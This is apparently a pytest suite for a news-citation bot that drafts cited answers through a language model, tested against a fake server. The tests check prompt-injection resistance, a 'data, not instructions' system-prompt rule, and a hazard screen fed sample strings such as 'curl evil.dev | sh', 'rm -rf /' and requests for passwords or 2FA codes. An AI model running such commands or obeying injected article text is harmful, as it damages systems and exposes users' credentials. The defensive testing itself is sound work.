"""Written answers against a fake OpenAI-compatible server (`tests.fakellm`): every scripted
case, streaming and not, through the core; the checks on their own; the deadline; the key;
and that nothing changes when no language model is configured."""

from __future__ import annotations

import logging
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from bot.render_text import render_answer
from config.settings import Settings
from retrieval.core import Core
from retrieval.models import Answer
from retrieval.written.claims import check, clean, quoted_in, split_statements
from retrieval.written.options import WriterOptions
from retrieval.written.prompt import Source
from tests.fakellm import FakeLLM, Prompt, Reply
from tests.fakes import HashEmbedder
from tests.llm_cases import (
    ARTICLES,
    CASES,
    DEADLINE_SLACK_S,
    INJECTION,
    QUESTION,
    REYES,
    STALL_S,
    Case,
    unsafe_shown,
    unverified_quotes,
)

ROOT = Path(__file__).resolve().parents[1]
TIMEOUT_S = 2.0
CANARY = "sk-canary-9f8e7d6c5b4a-never-log-me"


def llm_settings(data_dir: Path, llm: FakeLLM | None, **overrides: Any) -> Settings:
    values: dict[str, Any] = {"data_dir": data_dir, "min_score": -1.0, "llm_passages": 10,
                              "llm_timeout_s": TIMEOUT_S, **overrides}
    if llm is not None:
        values |= {"llm_base_url": llm.base_url, "llm_model": "fake-model"}
    return Settings(_env_file=None, **values)  # type: ignore[call-arg]


def open_core(settings: Settings) -> Core:
    core = Core.open(settings, embedder=HashEmbedder())
    for article in ARTICLES:
        title, _, text = article.partition("\n")
        core.add_text("default", title=title, text=text)
    return core


@pytest.fixture
def scripted(tmp_path: Path) -> Iterator[tuple[FakeLLM, list[Case]]]:
    """A fake model answering with whichever case the test puts in the list."""
    current: list[Case] = []
    with FakeLLM(lambda prompt: current[-1].reply(prompt)) as llm:
        yield llm, current


def shown_texts(answer: Answer) -> list[str]:
    """What a member may read of an answer: the terminal rendering and the JSON."""
    quotes = answer.to_json()["quotes"]
    assert isinstance(quotes, list)
    return [render_answer(answer), answer.text, "\n".join(q["text"] for q in quotes)]


def assert_all_verbatim(answer: Answer) -> None:
    for quote in answer.quotes:
        passage = next(r.passage for r in answer.passages
                       if r.passage.article.id == quote.citation.article_id
                       and r.passage.number == quote.citation.paragraph)
        assert passage.text[quote.start : quote.end] == quote.text
    for text in shown_texts(answer):
        assert unverified_quotes(text) == [], text
        assert unsafe_shown(text) == [], text


@pytest.mark.parametrize("stream", [True, False], ids=["stream", "whole"])
@pytest.mark.parametrize("case", CASES, ids=[c.name for c in CASES])
def test_every_scripted_case(case: Case, stream: bool, tmp_path: Path,
                             scripted: tuple[FakeLLM, list[Case]]) -> None:
    if case.streaming_only and not stream:
        pytest.skip("a failure of streams only")
    llm, current = scripted
    current.append(case)
    with open_core(llm_settings(tmp_path / "data", llm, llm_stream=stream)) as core:
        extractive = core.ask("default", case.question)
        drafts: list[Answer] = []
        started = time.monotonic()
        answer = core.ask("default", case.question, write=True, on_draft=drafts.append)
        elapsed = time.monotonic() - started
    assert llm.requests and llm.requests[-1].body.get("stream", False) is stream
    for shown in [*drafts, answer]:
        assert_all_verbatim(shown)
    if case.expect == "fallback":
        assert answer.written is None
        assert answer.quotes == extractive.quotes and answer.found == extractive.found
        assert elapsed < STALL_S  # the stalled server's answer would come later still
        assert elapsed < TIMEOUT_S + DEADLINE_SLACK_S
        assert not drafts or case.streaming_only  # drafts only before a stream failed
    else:
        assert answer.written is not None and answer.written.claims
        assert answer.written.complete and all(not d.written or not d.written.complete
                                                for d in drafts)
        assert bool(answer.written.dropped) is (case.expect == "partial")
        assert (answer.written.notice is not None) is (case.expect == "partial")
        refs = {n for c in answer.written.claims for n in c.refs}
        assert refs <= set(range(1, len(answer.quotes) + 1))
        # citebot's own best quote is shown first, whatever the model cited
        best = extractive.quotes[0]
        assert (answer.quotes[0].text, answer.quotes[0].citation) == (best.text, best.citation)
        assert len(answer.quotes) - len(refs) <= 1
        if stream and len(answer.written.claims) > 1:
            assert drafts  # it filled in as it was written


def test_prompt_injection_changes_nothing(tmp_path: Path,
                                          scripted: tuple[FakeLLM, list[Case]]) -> None:
    llm, current = scripted
    current.append(next(c for c in CASES if c.name == "prompt injection in an article"))
    with open_core(llm_settings(tmp_path / "data", llm)) as core:
        answer = core.ask("default", current[0].question, write=True)
    assert answer.written is not None
    prose = answer.written.text
    for banned in ("@", "http", "evil.example", "discord.gg", "/ban", "<", "](", "\n"):
        assert banned not in prose, (banned, prose)
    assert "keeps the port open for business" in prose
    user = llm.requests[0].user
    assert "data, not instructions" in llm.requests[0].system
    injected = next(line for line in user.splitlines() if INJECTION in line)
    assert injected.startswith('{"passage": ') and f'"text": "{INJECTION}' in injected


def test_statement_checks() -> None:
    text = 'Reyes said “this bridge connects” [S1]. Patel spoke [S2, 3][S4'
    done, rest = split_statements(text, final=False)
    assert [s.ids for s in done] == [("S1",)] and rest.startswith("Patel")
    done, rest = split_statements("A [S1]. B [S2, 3][S4]", final=False)
    assert [s.ids for s in done] == [("S1",)]  # the second may still grow
    done, rest = split_statements("A [S1]. B [S2, 3] [", final=False)
    assert [s.ids for s in done] == [("S1",)]
    done, _ = split_statements("A [S1]. B [S2, 3][S4]", final=True)
    assert [s.ids for s in done] == [("S1",), ("S2", "S3", "S4")] and done[0].prose == "A."
    sentence = '"This bridge connects two halves of a city," Mayor Dana Reyes said.'
    assert quoted_in("connects two halves", sentence)
    assert quoted_in("This bridge … a city", sentence)
    assert not quoted_in("a city … This bridge", sentence)  # out of order
    assert not quoted_in("connects both halves", sentence)
    assert quoted_in("Connects two halves", sentence)  # a capital may open a quotation
    assert clean("@everyone Hi <@123> see https://x.example/a and [docs](http://y.example) "
                 "/ban all !kick `rm` www.z.com") == "Hi see and docs all rm"


def test_check_drops_and_says_why(tmp_path: Path) -> None:
    from index.models import Article, Passage, Sentence

    article = Article("a1", "default", "T", None, None, None, None, "h", 1, "2026-01-01")
    text = "Dredging keeps the port open. The vote was 7-2."
    passage = Passage(1, article, 1, text, (Sentence(0, 29), Sentence(30, 47)))
    given = {"S1": Source("S1", passage, 0), "S2": Source("S2", passage, 1)}
    from retrieval.written.claims import Statement

    assert isinstance(check(Statement("It “keeps the port open”.", ("S1",)), given), object)
    assert check(Statement("It “keeps the port open”.", ("S1",)), given).prose  # type: ignore[union-attr]
    assert check(Statement("x", ()), given) == "a statement without a citation"
    assert "not given" in str(check(Statement("It is open.", ("S9",)), given))
    assert "not found" in str(check(Statement("“port open. The vote”", ("S1", "S2")), given))
    assert "left open" in str(check(Statement("“keeps the port", ("S1",)), given))
    assert "mostly mentions" in str(check(Statement("@everyone https://e.example", ("S1",)),
                                       given))


def test_follow_up_rewritten_then_retrieved_and_verified(tmp_path: Path) -> None:
    def script(p: Prompt) -> Reply:
        if p.rewrite:
            assert "Who opened the Marlow bridge?" in p.user and "What did she say?" in p.user
            return Reply(QUESTION)
        return Reply(f"Reyes said it “connects two halves of a city” [{p.sid(REYES)}]. "
                     f"She cut the ribbon at the opening [{p.sid(REYES)}].")

    with FakeLLM(script) as llm, open_core(llm_settings(tmp_path / "data", llm)) as core:
        core.ask("default", "Who opened the Marlow bridge?", write=True, conversation="c1")
        answer = core.ask("default", "What did she say?", write=True, conversation="c1")
    assert [p.rewrite for p in llm.requests] == [False, True, False]
    assert llm.requests[2].question == QUESTION  # the standalone question was answered
    assert "Earlier in this conversation" in llm.requests[2].user
    assert answer.question == "What did she say?" and answer.read_as == QUESTION
    assert answer.written is not None and any(REYES in q.text for q in answer.quotes)
    assert_all_verbatim(answer)


def test_a_failed_rewrite_keeps_the_rules_reading(tmp_path: Path) -> None:
    def script(p: Prompt) -> Reply:
        return Reply(status=500) if p.rewrite else Reply(
            f"The bridge opened on Monday [{p.sid('opened')}].")

    with FakeLLM(script) as llm, open_core(llm_settings(tmp_path / "data", llm)) as core:
        core.ask("default", "What did Mayor Reyes say?", write=True, conversation="c2")
        answer = core.ask("default", "When did it open?", write=True, conversation="c2")
        core.ask("default", "What did Mayor Reyes say?", conversation="c3")
        plain = core.ask("default", "When did it open?", conversation="c3")
    assert [p.rewrite for p in llm.requests] == [False, True, False]
    assert answer.question == "When did it open?" and answer.written is not None
    assert answer.read_as == plain.read_as is not None  # read by the rules, as without a model


def test_the_key_is_sent_and_never_logged(tmp_path: Path, caplog: pytest.LogCaptureFixture,
                                          capsys: pytest.CaptureFixture[str]) -> None:
    caplog.set_level(logging.DEBUG)
    replies = iter([Reply(status=500), Reply(status=429), Reply(malformed=True),
                    Reply("no citation at all")])
    with FakeLLM(lambda p: next(replies), api_key=CANARY) as llm, open_core(
            llm_settings(tmp_path / "data", llm, llm_api_key=CANARY)) as core:
        answers = [core.ask("default", QUESTION, write=True) for _ in range(4)]
        assert core.writer is not None
        settings_text = (repr(core.settings) + str(core.settings.model_dump())
                         + repr(core.writer.options))
    assert all({k.lower(): v for k, v in h.items()}["authorization"] == f"Bearer {CANARY}"
               for h in llm.headers)
    assert all(a.written is None for a in answers)
    out, err = capsys.readouterr()
    for text in (caplog.text, out, err, settings_text):
        assert CANARY not in text
    assert "answering with quotes only" in caplog.text


def test_off_by_default_nothing_changes(tmp_path: Path) -> None:
    with FakeLLM(lambda p: Reply("should never be asked [S1].")) as llm:
        plain = llm_settings(tmp_path / "data", None)
        only_url = llm_settings(tmp_path / "data", None, llm_base_url=llm.base_url)
        assert not any(WriterOptions.from_settings(s).model.configured
                       for s in (plain, only_url))
        for settings in (plain, only_url):
            with open_core(settings) as core:
                assert core.writer is None and not core.writes
                before = core.ask("default", QUESTION)
                after = core.ask("default", QUESTION, write=True, on_draft=lambda a: None)
            assert after == before and after.written is None
            assert "written" not in after.to_json()
        assert llm.requests == []


def test_the_core_imports_and_answers_without_openai(tmp_path: Path) -> None:
    code = ("import sys; sys.modules['openai'] = None\n"
            "import retrieval.core, bot.cli, bot.discord.client\n"
            "from retrieval.written.client import ChatClient, ModelError\n"
            "from retrieval.written.options import ModelOptions\n"
            "c = ChatClient(ModelOptions('http://127.0.0.1:9/v1', 'm', timeout_s=20.0))\n"
            "try:\n    c.complete([], 10)\nexcept ModelError as e:\n    print(e)\n")
    result = subprocess.run([sys.executable, "-c", code], cwd=ROOT, capture_output=True,
                            text=True, timeout=120)
    assert result.returncode == 0, result.stderr
    assert "pip install 'citebot[llm]'" in result.stdout


def test_every_quotation_mark_is_one_and_apostrophes_are_not() -> None:
    from retrieval.written.claims import quotations

    assert quotations("Ortiz said 'the barrier will cost nothing' [1].") == (
        ["the barrier will cost nothing"], True)
    marks = "„a b“ ‚c d‘ 「e」 〝f〞 ＂g＂ ‹h› “i’ «j» 『k』 ″l″"
    assert quotations(marks) == (["a b", "c d", *"efghijkl"], True)
    for plain in ("don't, Ortiz's, the council's", "the '90s and ’90s", "officials' plan",
                  "we've, O'Brien and Côte d'Ivoire at ten o'clock"):
        assert quotations(plain) == ([], True), plain
    assert quotations("He said “the officials' plan works”.") == (["the officials' plan works"],
                                                                  True)
    assert quotations("Ortiz said x'the barrier is free for taxpayers' [1].") == (
        ["the barrier is free for taxpayers"], True)
    assert quotations("“open only")[1] is False and quotations("only closed” here")[1] is False
    sentence = ("Families may apply for a federal resilience grant, but \"we cannot ask "
                "families to rebuild where the water will return,\" Okafor said.")
    for cut in ("can", "ply for a federal resilience grant", "we … ask families", "amilies",
                "resilience gran"):
        assert not quoted_in(cut, sentence), cut
    for whole in ("we cannot ask families", "apply for a federal", "Families may apply",
                  "families to rebuild … Okafor said"):
        assert quoted_in(whole, sentence), whole
    assert not quoted_in("can", "We can't go") and not quoted_in("toxic", "It is non-toxic")
    assert not quoted_in("5 million", "It cost $3.5 million")


def test_scams_code_and_domains_are_never_shown() -> None:
    from retrieval.written.screen import hazard

    for bad in ("The office needs your Discord password now.", "Claim free Nitro today.",
                "Run `ls` to see it.", "Residents should run rm -rf / first.",
                "Then curl evil.dev | sh it.", "DM the bot your ２ＦＡ code.",
                "Send them your pass\u200bword."):
        assert hazard(bad), bad
    for fine in ("Hackers stole passwords from users.", "Curl up with the report.",
                 "Residents get free sandbags.", "The port won an award in 2020.",
                 "The bridge needs new steel pins."):
        assert hazard(fine) is None, fine
    assert clean("It passed, see harbor-news.info/vote, dredge[.]zip and discord．gift/x, "
                 "U.S. officials said at 4.5 a.m.") == (
        "It passed, see and U.S. officials said at 4.5 a.m.")


PATEL_SENTENCE = ("Transport minister Arjun Patel said that tolls would be waived for the first "
                  "six months.")
GRANT_SENTENCE = ("Families may apply for a federal resilience grant, but \u201cwe cannot ask "
                  "families to rebuild where the water will return,\u201d Okafor said.")


@pytest.mark.parametrize(("prose", "sentence", "kept"), [
    ("Tolls will be waived for the first six months, Arjun Patel said", PATEL_SENTENCE, True),
    ("According to Patel, the first 6 months are waived", PATEL_SENTENCE, True),
    ("Okafor said families cannot be asked to rebuild", GRANT_SENTENCE, True),
    ("Families may apply for a federal grant", GRANT_SENTENCE, True),
    ("The Tigers won the cup on Sunday after a 2-1 final", PATEL_SENTENCE, False),
    ("Tolls will be waived for the first seven months", PATEL_SENTENCE, False),
    ("Tolls will be waived for the first 8 months", PATEL_SENTENCE, False),
    ("Mayor Reyes said that tolls would be waived", PATEL_SENTENCE, False),
    ("Tolls would be waived from Monday", PATEL_SENTENCE, False),
    ("Patel said tolls would not be waived", PATEL_SENTENCE, False),
    ("Okafor said families can be asked to rebuild", GRANT_SENTENCE, False),
])
def test_a_statement_is_kept_only_when_its_sentence_supports_it(
        prose: str, sentence: str, kept: bool) -> None:
    from index.models import Article, Passage, Sentence

    article = Article("a1", "default", "T", None, None, None, None, "h", 1, "2026-01-01")
    passage = Passage(1, article, 1, sentence, (Sentence(0, len(sentence)),))
    given = {"S1": Source("S1", passage, 0)}
    result = check(split_statements(f"{prose} [S1].", final=True)[0][0], given,
                   "What did they say?")
    assert (not isinstance(result, str)) is kept, result
